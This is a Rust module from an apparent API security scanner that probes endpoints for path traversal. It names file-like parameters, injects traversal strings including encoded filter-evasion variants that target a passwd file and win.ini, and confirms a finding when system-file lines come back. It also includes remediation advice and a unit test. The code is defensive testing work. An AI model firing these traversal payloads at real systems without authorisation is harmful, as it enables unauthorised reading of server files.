//! Files beside those that the API means.
//!
//! A name that is joined to a folder can leave it by `..`, or replace it by a path from the root. What proves it is the
//! content of a file that every system has. Where an unknown name is not found, that answer is the control: it shows that
//! the operation serves the account and looks for what it is told.

use std::sync::Arc;

use serde_json::Value;

use super::files::{PASSWD, WIN_INI, system_file_in};
use crate::answer::Reply;
use crate::attack::{Attack, Hole, Tried};
use crate::attacks::aim::{is_called, is_read_like};
use crate::census::shape_of;
use crate::door::{GuideDoor, ShutBy};
use crate::prober::{Prober, Stop};
use crate::request::{Draft, Slot};
use crate::surface::{Endpoint, Kind};
use crate::who::Who;
use report::Level;

pub(super) const ATTACK: Attack = Attack {
    name: "path-traversal",
    door: GuideDoor::Firewall,
    shut_by: ShutBy::Code,
    thought: "If I climb out of the folder, does the server read another file?",
    level: Level::Critical,
    references: &["CWE-22", "API8:2023"],
    mend_in_code: "Take names of a list, or resolve the path and check that it is still within the folder.",
    mend_at_gate: "The door injection refuses such paths by its detector path; keep [doors] injection in enforce.",
    run: |p, tried| Box::pin(run(p, tried)),
};

/// Names of what holds a file.
const NAMES: [&str; 20] = [
    "file",
    "path",
    "template",
    "page",
    "doc",
    "download",
    "folder",
    "dir",
    "image",
    "img",
    "attachment",
    "include",
    "view",
    "layout",
    "theme",
    "lang",
    "locale",
    "report",
    "log",
    "resource",
];
/// Names that hold a file only where the operation is about files.
const PLAIN: [&str; 5] = ["name", "key", "id", "src", "url"];

/// Ways from a folder to the root, and ways that filters overlook.
fn ways() -> Vec<String> {
    let up = "../".repeat(8);
    let mut ways = vec![format!("{up}{PASSWD}"), format!("/{PASSWD}")];
    ways.push(format!("{}{PASSWD}", "....//".repeat(8)));
    ways.push(format!("{}{PASSWD}", "..%2f".repeat(8)));
    ways.push(format!("{}{PASSWD}", "..%252f".repeat(8)));
    ways.push(format!("{}{PASSWD}", "%2e%2e/".repeat(8)));
    ways.push(format!("file:///{PASSWD}"));
    ways.push(format!("{}{}", "..\\".repeat(8), WIN_INI.replace('/', "\\")));
    ways.push(format!("{up}{WIN_INI}"));
    ways
}

/// A place that a path may stand in.
struct Place {
    operation: String,
    who: Who,
    draft: Draft,
    slot: Slot,
    /// The answer to an ordinary request: served, or that there is no such file.
    ordinary: Arc<Reply>,
    /// Whether its name, or the operation, is about files.
    is_likely: bool,
}

async fn run(p: &Prober<'_>, tried: &mut Tried) -> Result<(), Stop> {
    for place in places(p).await? {
        let result = try_place(p, &place, tried).await;
        tried.take(result)?;
    }
    Ok(())
}

/// The text slots of operations that serve, and of those that only do not know what they were asked for.
async fn places(p: &Prober<'_>) -> Result<Vec<Place>, Stop> {
    let mut places = Vec::new();
    for at in 0..p.surface.endpoints.len() {
        let endpoint = p.surface.endpoint(at);
        if !p.may_ask(at) || endpoint.is_removal() {
            continue;
        }
        let control = [Who::Attacker, Who::Victim, Who::Nobody].iter().find_map(|who| p.control(at, *who));
        let (who, draft, ordinary) = match control {
            Some(control) => (control.who, control.draft.clone(), Arc::new(control.reply.clone())),
            None => {
                let people = [Who::Attacker, Who::Victim, Who::Nobody];
                let Some((who, reply)) = people.iter().find_map(|who| Some((*who, not_found(p, at, *who)?)))
                else {
                    continue;
                };
                (who, reply.draft.clone(), reply)
            }
        };
        for slot in slots(endpoint, &draft) {
            let is_likely = is_likely(endpoint, &slot, draft.text(&slot).as_deref());
            if is_likely || (is_read_like(endpoint) && ordinary.is_served) {
                let operation = endpoint.name();
                let (draft, ordinary) = (draft.clone(), ordinary.clone());
                places.push(Place { operation, who, draft, slot, ordinary, is_likely });
            }
        }
    }
    Ok(places)
}

/// The answer to a request that was refused because there is no such thing, and not for want of a right.
fn not_found(p: &Prober<'_>, at: usize, who: Who) -> Option<Arc<Reply>> {
    let refused = p.refused(at, who)?;
    let reply = &refused.reply;
    (matches!(reply.status(), 400 | 404 | 422 | 500) && !reply.is_refusal_of_access())
        .then(|| Arc::new(reply.clone()))
}

fn slots(endpoint: &Endpoint, draft: &Draft) -> Vec<Slot> {
    let offered = endpoint.parameters.iter().map(|parameter| Slot::of(parameter.place, &parameter.name));
    let leaves = endpoint.body.iter().flat_map(|body| body.shape.leaves()).map(|(at, _)| Slot::Body(at));
    let mut slots = draft.slots();
    for slot in offered.chain(leaves) {
        if !slots.contains(&slot) {
            slots.push(slot);
        }
    }
    slots.retain(|slot| {
        matches!(shape_of(endpoint, slot).map(|shape| &shape.kind), None | Some(Kind::Text | Kind::Any))
    });
    slots
}

fn is_likely(endpoint: &Endpoint, slot: &Slot, text: Option<&str>) -> bool {
    let is_file_name = text.is_some_and(|text| {
        text.rsplit_once('.').is_some_and(|(stem, end)| {
            !stem.is_empty()
                && !text.contains(['@', ' '])
                && (2..=4).contains(&end.len())
                && end.chars().all(char::is_alphanumeric)
                && end.parse::<u32>().is_err()
        })
    });
    let is_about_files = is_called(&endpoint.path, &NAMES) || is_called(&endpoint.id, &NAMES);
    is_file_name || is_called(slot.name(), &NAMES) || (is_about_files && is_called(slot.name(), &PLAIN))
}

async fn try_place(p: &Prober<'_>, place: &Place, tried: &mut Tried) -> Result<(), Stop> {
    let Place { operation, who, draft, slot, ordinary, is_likely } = place;
    if system_file_in(&ordinary.text()).is_some() {
        tried.unknown(format!("{operation}: the ordinary answer already has lines of a system file"));
        return Ok(());
    }
    for way in ways().into_iter().take(if *is_likely { usize::MAX } else { 1 }) {
        let attack = draft.with(slot, Value::from(way));
        let reply = p.ask(&attack, *who).await?;
        let Some(file) = system_file_in(&reply.text()) else {
            match ordinary.is_served {
                true => tried.shut(&reply.seen),
                false => tried.not_tried(format!("{operation}, {slot}: no name of a file is known")),
            }
            continue;
        };
        let again = p.ask(&attack, *who).await?;
        let still = p.ask(draft, *who).await?;
        if system_file_in(&again.text()) == Some(file) && system_file_in(&still.text()).is_none() {
            let message = format!("the answer has the lines of {file}");
            tried.open(Hole::shown(operation, slot, message, ordinary, &reply));
            return Ok(());
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn names_values_and_operations_say_what_holds_a_file() {
        let document = json!({ "openapi": "3.1.0", "paths": { "/files/download": { "get": {} }, "/orders": { "get": {} } } });
        let source = openapi::Source::new("api.json", document.to_string());
        let surface = crate::Surface::of(&openapi::Document::parse(&source, None).unwrap());
        for (at, name, text, expected) in [
            (0, "name", None, true),
            (0, "page_size", None, true),
            (0, "sort", None, false),
            (1, "name", None, false),
            (1, "name", Some("welcome.txt"), true),
            (1, "q", Some("v1.20"), false),
            (1, "mail", Some("a@example.com"), false),
            (1, "template", None, true),
        ] {
            let slot = Slot::Query(name.into());
            assert_eq!(is_likely(&surface.endpoints[at], &slot, text), expected, "{at} {name}");
        }
    }
}
